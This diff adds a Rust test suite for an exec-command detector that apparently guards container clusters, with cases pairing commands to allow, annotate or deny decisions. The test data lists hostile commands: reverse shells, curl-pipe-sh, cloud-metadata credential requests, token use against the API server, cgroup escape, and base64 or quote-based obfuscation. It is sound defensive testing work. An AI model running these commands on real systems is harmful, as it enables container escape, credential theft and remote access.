@@ -1,0 +1,248 @@
+//! Exec-command detection, rule by rule and normalisation by normalisation. Each case gives the
+//! argv, whether stdin is attached, the expected decision, and rules that must (and must not) fire.
+
+mod common;
+
+use std::collections::BTreeSet;
+
+use common::*;
+use reconguard::decision::Action;
+
+struct Case {
+    argv: &'static [&'static str],
+    stdin: bool,
+    action: Action,
+    rules: &'static [&'static str],
+}
+
+const fn case(argv: &'static [&'static str], action: Action, rules: &'static [&'static str]) -> Case {
+    Case { argv, stdin: false, action, rules }
+}
+
+use Action::{Allow, Annotate, Deny};
+
+const CASES: &[Case] = &[
+    // Discovery: annotated, never denied on its own.
+    case(&["netstat", "-tuln"], Annotate, &["exec-network-connections"]),
+    case(&["ss", "-tlnp"], Annotate, &["exec-network-connections"]),
+    case(&["lsof", "-i"], Annotate, &["exec-network-connections"]),
+    case(&["ps", "aux"], Annotate, &["exec-process-discovery"]),
+    case(&["/bin/ps", "-ef"], Annotate, &["exec-process-discovery"]),
+    case(&["busybox", "ps"], Annotate, &["exec-process-discovery"]),
+    case(&["toybox", "netstat", "-an"], Annotate, &["exec-network-connections"]),
+    case(&["id"], Annotate, &["exec-account-discovery"]),
+    case(&["whoami"], Annotate, &["exec-account-discovery"]),
+    case(&["w"], Annotate, &["exec-account-discovery"]),
+    case(&["last"], Annotate, &["exec-account-discovery"]),
+    case(&["uname", "-a"], Annotate, &["exec-system-info"]),
+    case(&["ip", "addr"], Annotate, &["exec-network-config"]),
+    case(&["ifconfig"], Annotate, &["exec-network-config"]),
+    case(&["arp", "-a"], Annotate, &["exec-network-config"]),
+    case(&["route", "-n"], Annotate, &["exec-network-config"]),
+    case(&["mount"], Annotate, &["exec-system-info"]),
+    case(&["capsh", "--print"], Annotate, &["exec-system-info"]),
+    case(&["lsblk"], Annotate, &["exec-system-info"]),
+    case(&["fdisk", "-l"], Annotate, &["exec-system-info"]),
+    case(&["dmidecode"], Annotate, &["exec-system-info"]),
+    case(&["dmesg"], Annotate, &["exec-system-info"]),
+    case(&["who"], Annotate, &["exec-account-discovery"]),
+    case(&["nslookup", "kubernetes.default"], Deny, &["exec-remote-system-discovery", "exec-apiserver-access"]),
+    case(&["dig", "+short", "db.prod.svc"], Annotate, &["exec-remote-system-discovery"]),
+    case(&["find", "/", "-perm", "-4000"], Annotate, &["exec-file-discovery"]),
+    case(&["cat", "/etc/os-release"], Annotate, &["exec-host-info-read"]),
+    case(&["cat", "/.dockerenv"], Annotate, &["exec-host-info-read"]),
+    case(&["cat", "/etc/passwd"], Annotate, &["exec-account-file-read"]),
+    case(&["cat", "/etc/./passwd"], Annotate, &["exec-account-file-read"]),
+    case(&["cat", "//etc//passwd"], Annotate, &["exec-account-file-read"]),
+    case(&["cat", "/proc/net/tcp"], Annotate, &["exec-proc-network-read"]),
+    case(&["cat", "/proc/1/environ"], Annotate, &["exec-proc-process-read"]),
+    case(&["cat", "/proc/self/cgroup"], Annotate, &["exec-host-info-read"]),
+    case(&["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], Annotate, &["exec-sa-token-read"]),
+    // High-confidence attack behaviour: denied.
+    case(&["nmap", "-sS", "10.0.0.0/24"], Deny, &["exec-network-scan"]),
+    case(&["masscan", "-p1-65535", "10.0.0.0/8"], Deny, &["exec-network-scan"]),
+    case(&["zmap", "-p", "443"], Deny, &["exec-network-scan"]),
+    case(&["nc", "-zv", "10.0.0.5", "1-1024"], Deny, &["exec-network-scan"]),
+    case(&["nc", "-z", "10.0.0.5", "22", "80", "443"], Deny, &["exec-network-scan"]),
+    case(&["sh", "-c", "for p in $(seq 1 1024); do (echo > /dev/tcp/10.0.0.1/$p) 2>/dev/null && echo open $p; done"], Deny, &["exec-network-scan"]),
+    case(&["bash", "-c", "for h in 10.0.0.{1..254}; do nc -z -w1 $h 22; done"], Deny, &["exec-network-scan"]),
+    case(&["python3", "-c", "import socket\nfor p in range(1,1024):\n s=socket.socket(); print(p, s.connect_ex(('10.0.0.1',p)))"], Deny, &["exec-network-scan"]),
+    case(&["docker", "ps"], Deny, &["exec-runtime-client"]),
+    case(&["crictl", "ps"], Deny, &["exec-runtime-client"]),
+    case(&["ctr", "-n", "k8s.io", "containers", "list"], Deny, &["exec-runtime-client"]),
+    case(&["curl", "--unix-socket", "/var/run/docker.sock", "http://localhost/containers/json"], Deny, &["exec-runtime-socket-access"]),
+    case(&["socat", "-", "UNIX-CONNECT:/run/containerd/containerd.sock"], Deny, &["exec-runtime-socket-access"]),
+    case(&["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash"], Deny, &["exec-host-entry"]),
+    case(&["chroot", "/host", "bash"], Annotate, &["exec-namespace-tool"]),
+    case(&["unshare", "-UrmC", "bash"], Annotate, &["exec-namespace-tool"]),
+    case(&["sh", "-c", "echo 1 > /sys/fs/cgroup/rdma/x/notify_on_release; echo /cmd > /sys/fs/cgroup/rdma/release_agent"], Deny, &["exec-escape-artifact"]),
+    case(&["debugfs", "/dev/sda1"], Deny, &["exec-kernel-module", "exec-escape-artifact"]),
+    case(&["mount", "/dev/sda1", "/mnt"], Deny, &["exec-escape-artifact"]),
+    case(&["insmod", "rootkit.ko"], Deny, &["exec-kernel-module"]),
+    case(&["ls", "/proc/1/root/etc"], Deny, &["exec-escape-artifact"]),
+    case(&["curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"], Deny, &["exec-cloud-metadata"]),
+    case(&["curl", "http://2852039166/latest/meta-data/"], Deny, &["exec-cloud-metadata"]),
+    case(&["wget", "-qO-", "http://0xa9fea9fe/latest/user-data"], Deny, &["exec-cloud-metadata"]),
+    case(&["curl", "http://0251.0376.0251.0376/"], Deny, &["exec-cloud-metadata"]),
+    case(&["curl", "http://[fd00:ec2::254]/latest/meta-data/"], Deny, &["exec-cloud-metadata"]),
+    case(&["curl", "-H", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/"], Deny, &["exec-cloud-metadata"]),
+    case(&["curl", "http://169.254.170.2/v2/credentials"], Deny, &["exec-cloud-metadata"]),
+    case(&["curl", "http://100.100.100.200/latest/meta-data/"], Deny, &["exec-cloud-metadata"]),
+    case(&["curl", "-sk", "https://10.0.0.12:10250/pods"], Deny, &["exec-kubelet-access"]),
+    case(&["kubectl", "get", "secrets", "-A"], Annotate, &["exec-kubectl"]),
+    case(&["sh", "-c", "TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -sk -H \"Authorization: Bearer $TOKEN\" https://kubernetes.default.svc/api/v1/namespaces"], Deny, &["exec-apiserver-with-token", "exec-sa-token-read", "exec-apiserver-access"]),
+    case(&["sh", "-c", "curl -sk https://$KUBERNETES_SERVICE_HOST/version"], Annotate, &["exec-apiserver-access"]),
+    case(&["find", "/", "-name", "id_rsa"], Annotate, &["exec-credential-hunt"]),
+    case(&["grep", "-r", "BEGIN RSA PRIVATE KEY", "/"], Annotate, &["exec-credential-hunt"]),
+    case(&["cat", "/root/.kube/config"], Annotate, &["exec-credential-hunt"]),
+    case(&["cat", "/etc/shadow"], Annotate, &["exec-credential-hunt"]),
+    case(&["tcpdump", "-i", "any", "-w", "/tmp/x.pcap"], Deny, &["exec-sniffing"]),
+    case(&["tshark", "-i", "eth0"], Deny, &["exec-sniffing"]),
+    case(&["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"], Deny, &["exec-reverse-shell"]),
+    case(&["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], Deny, &["exec-reverse-shell"]),
+    case(&["ncat", "10.0.0.1", "4444", "--exec", "/bin/bash"], Deny, &["exec-reverse-shell"]),
+    case(&["socat", "exec:bash -li,pty,stderr", "tcp:10.0.0.1:4444"], Deny, &["exec-reverse-shell"]),
+    case(&["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"], Deny, &["exec-reverse-shell"]),
+    case(&["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));exec('/bin/sh -i');"], Deny, &["exec-reverse-shell"]),
+    case(&["sh", "-c", "curl -fsSL http://203.0.113.9/x.sh | sh"], Annotate, &["exec-remote-script"]),
+    case(&["amicontained"], Deny, &["exec-recon-toolkit"]),
+    case(&["./deepce.sh"], Deny, &["exec-recon-toolkit"]),
+    case(&["bash", "/tmp/linpeas.sh"], Deny, &["exec-recon-toolkit"]),
+    case(&["/tmp/cdk", "evaluate"], Deny, &["exec-recon-toolkit"]),
+    case(&["peirates"], Deny, &["exec-recon-toolkit"]),
+    case(&["kubeletctl", "scan", "--cidr", "10.0.0.0/24"], Deny, &["exec-recon-toolkit"]),
+    case(&["kube-hunter", "--pod"], Deny, &["exec-recon-toolkit"]),
+    // Wrappers and normalisation.
+    case(&["env", "A=1", "B=2", "netstat", "-an"], Annotate, &["exec-network-connections"]),
+    case(&["env", "-i", "PATH=/bin", "nmap", "10.0.0.1"], Deny, &["exec-network-scan"]),
+    case(&["timeout", "-s", "KILL", "10", "nmap", "10.0.0.1"], Deny, &["exec-network-scan"]),
+    case(&["nice", "-n", "10", "nohup", "setsid", "nmap", "10.0.0.1"], Deny, &["exec-network-scan"]),
+    case(&["stdbuf", "-oL", "tcpdump", "-i", "eth0"], Deny, &["exec-sniffing"]),
+    case(&["sudo", "-u", "root", "ps", "aux"], Annotate, &["exec-process-discovery"]),
+    case(&["su", "root", "-c", "netstat -an"], Annotate, &["exec-network-connections"]),
+    case(&["xargs", "-n1", "nmap"], Deny, &["exec-network-scan"]),
+    case(&["watch", "-n1", "ss -tlnp"], Annotate, &["exec-network-connections"]),
+    case(&["/usr/bin/env", "bash", "-c", "ps aux"], Annotate, &["exec-process-discovery"]),
+    case(&["sh", "-c", "exec nmap 10.0.0.1"], Deny, &["exec-network-scan"]),
+    case(&["sh", "-c", "command -p nmap 10.0.0.1"], Deny, &["exec-network-scan"]),
+    case(&["bash", "-lc", "true && (ps aux | grep x) || echo none"], Annotate, &["exec-process-discovery"]),
+    case(&["sh", "-ec", "if true; then netstat -an; fi"], Annotate, &["exec-network-connections"]),
+    case(&["sh", "-c", "echo $(nmap 10.0.0.1)"], Deny, &["exec-network-scan"]),
+    case(&["sh", "-c", "echo `ps aux`"], Annotate, &["exec-process-discovery"]),
+    case(&["sh", "-c", "sh -c \"bash -c 'nmap 10.0.0.1'\""], Deny, &["exec-network-scan"]),
+    case(&["python3.11", "-c", "import os; os.system('nmap -sS 10.0.0.0/24')"], Deny, &["exec-network-scan"]),
+    // Encoded payloads and obfuscation.
+    case(&["sh", "-c", "echo bm1hcCAtc1MgMTAuMC4wLjAvMjQ= | base64 -d | sh"], Deny, &["exec-network-scan", "exec-encoded-payload"]),
+    case(&["sh", "-c", "printf '\\x6e\\x6d\\x61\\x70\\x20\\x31\\x30\\x2e\\x30\\x2e\\x30\\x2e\\x31' | sh"], Deny, &["exec-network-scan", "exec-encoded-payload"]),
+    case(&["sh", "-c", "n''map 10.0.0.1"], Deny, &["exec-network-scan", "exec-obfuscation"]),
+    case(&["sh", "-c", "n\"\"etst\"a\"t -an"], Annotate, &["exec-network-connections", "exec-obfuscation"]),
+    case(&["bash", "-c", "$'\\x6e\\x6d\\x61\\x70' 10.0.0.1"], Deny, &["exec-network-scan", "exec-obfuscation"]),
+    case(&["sh", "-c", "a=nm;b=ap;$a$b 10.0.0.1"], Deny, &["exec-network-scan", "exec-obfuscation"]),
+    case(&["sh", "-c", "cat${IFS}/etc/passwd"], Annotate, &["exec-account-file-read", "exec-obfuscation"]),
+    case(&["sh", "-c", "((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((nmap))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))"], Deny, &["exec-network-scan", "exec-analysis-limit"]),
+    case(&["sh", "-c", "if then fi (( nmap 10.0.0.1"], Deny, &["exec-network-scan"]),
+    // Interactive shells and attach: low, never denied, and said so.
+    Case { argv: &["bash"], stdin: true, action: Allow, rules: &["exec-interactive-shell"] },
+    Case { argv: &["/bin/sh", "-i"], stdin: true, action: Allow, rules: &["exec-interactive-shell"] },
+    Case { argv: &["env", "TERM=xterm", "bash", "-l"], stdin: true, action: Allow, rules: &["exec-interactive-shell"] },
+    Case { argv: &["python3"], stdin: true, action: Allow, rules: &["exec-interactive-shell"] },
+    // Benign admin work stays quiet.
+    case(&["ls", "-l", "/srv"], Allow, &[]),
+    case(&["cat", "/app/config.yaml"], Allow, &[]),
+    case(&["tail", "-f", "/var/log/app.log"], Allow, &[]),
+    case(&["psql", "-h", "db", "-U", "app", "-c", "select 1"], Allow, &[]),
+    case(&["redis-cli", "-h", "cache", "ping"], Allow, &[]),
+    case(&["mysql", "-e", "show databases"], Allow, &[]),
+    case(&["./manage.py", "migrate"], Allow, &[]),
+    case(&["rails", "db:migrate"], Allow, &[]),
+    case(&["curl", "localhost:8080/healthz"], Allow, &[]),
+    case(&["curl", "-fsS", "http://127.0.0.1:8080/metrics"], Allow, &[]),
+    case(&["python", "-c", "import django; print(django.VERSION)"], Allow, &[]),
+    case(&["python3", "-c", "import json; print(json.dumps({'metadata': 1}))"], Allow, &[]),
+    case(&["sh", "-c", "echo hello && date"], Allow, &[]),
+    case(&["env"], Allow, &[]),
+    case(&["bash"], Allow, &[]),
+    case(&["java", "-jar", "/app/app.jar", "--token=ZXlKaGJHY2lPaUpJVXpJMU5pSjk"], Allow, &[]),
+    case(&["nc", "-z", "db", "5432"], Allow, &["exec-port-probe"]),
+    case(&["sh", "-c", "until nc -z db 5432; do sleep 1; done"], Allow, &["exec-port-probe"]),
+    case(&["sh", "-c", "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done"], Allow, &["exec-port-probe"]),
+];
+
+#[test]
+fn exec_cases() {
+    let policy = policy();
+    let mut failures = Vec::new();
+    for c in CASES {
+        let d = exec(&policy, c.argv, c.stdin);
+        let fired = rules(&d);
+        let missing: Vec<_> = c.rules.iter().filter(|r| !fired.iter().any(|f| f == *r)).collect();
+        if d.action != c.action || !missing.is_empty() {
+            failures.push(format!(
+                "{:?} stdin={}: got {:?} (score {}) rules {:?}; want {:?}, missing {:?}",
+                c.argv, c.stdin, d.action, d.score, fired, c.action, missing
+            ));
+        }
+        if c.action == Allow && c.rules.is_empty() && !d.findings.is_empty() {
+            failures.push(format!("{:?}: benign but found {:?}", c.argv, fired));
+        }
+    }
+    assert!(failures.is_empty(), "{} failing case(s):\n{}", failures.len(), failures.join("\n"));
+}
+
+#[test]
+fn interactive_shell_message_says_stdin_is_unseen() {
+    let d = exec(&policy(), &["bash"], true);
+    assert_eq!(d.action, Action::Allow);
+    assert!(d.findings[0].message.contains("not visible to admission control"), "{}", d.findings[0].message);
+}
+
+#[test]
+fn every_finding_names_a_technique() {
+    let policy = policy();
+    for c in CASES {
+        for f in exec(&policy, c.argv, c.stdin).findings {
+            assert!(f.technique.starts_with('T') && f.technique.len() >= 5, "{f:?}");
+            assert!(!f.message.is_empty());
+        }
+    }
+}
+
+/// Every command rule in the default policy is exercised by at least one case here.
+#[test]
+fn every_exec_rule_is_covered() {
+    let policy = policy();
+    let mut fired = BTreeSet::new();
+    for c in CASES {
+        fired.extend(rules(&exec(&policy, c.argv, c.stdin)));
+    }
+    let uncovered: Vec<_> = policy
+        .rules
+        .keys()
+        .filter(|id| id.starts_with("exec-") && *id != "exec-attach" && !fired.contains(*id))
+        .collect();
+    assert!(uncovered.is_empty(), "rules without a case: {uncovered:?}");
+}
+
+#[test]
+fn hostile_input_is_bounded() {
+    let policy = policy();
+    let long = "nmap 10.0.0.1; ".repeat(10_000);
+    let d = exec(&policy, &["sh", "-c", &long], false);
+    assert!(rules(&d).contains(&"exec-analysis-limit".to_string()));
+    assert_eq!(d.action, Action::Deny);
+    // Payloads wrapped in base64 ten times: analysed to the depth limit, and the rest reported.
+    use base64::Engine as _;
+    let mut script = "nmap 10.0.0.1".to_string();
+    for _ in 0..10 {
+        let encoded = base64::engine::general_purpose::STANDARD.encode(&script);
+        script = format!("echo {encoded} | base64 -d | sh");
+    }
+    let d = exec(&policy, &["sh", "-c", &script], false);
+    let fired = rules(&d);
+    assert!(fired.contains(&"exec-analysis-limit".to_string()), "{fired:?}");
+    assert!(fired.contains(&"exec-encoded-payload".to_string()), "{fired:?}");
+    assert!(d.action >= Action::Annotate);
+    let many: Vec<&str> = std::iter::repeat_n("x", 100_000).collect();
+    let d = exec(&policy, &many, false);
+    assert_eq!(d.action, Action::Allow);
+}
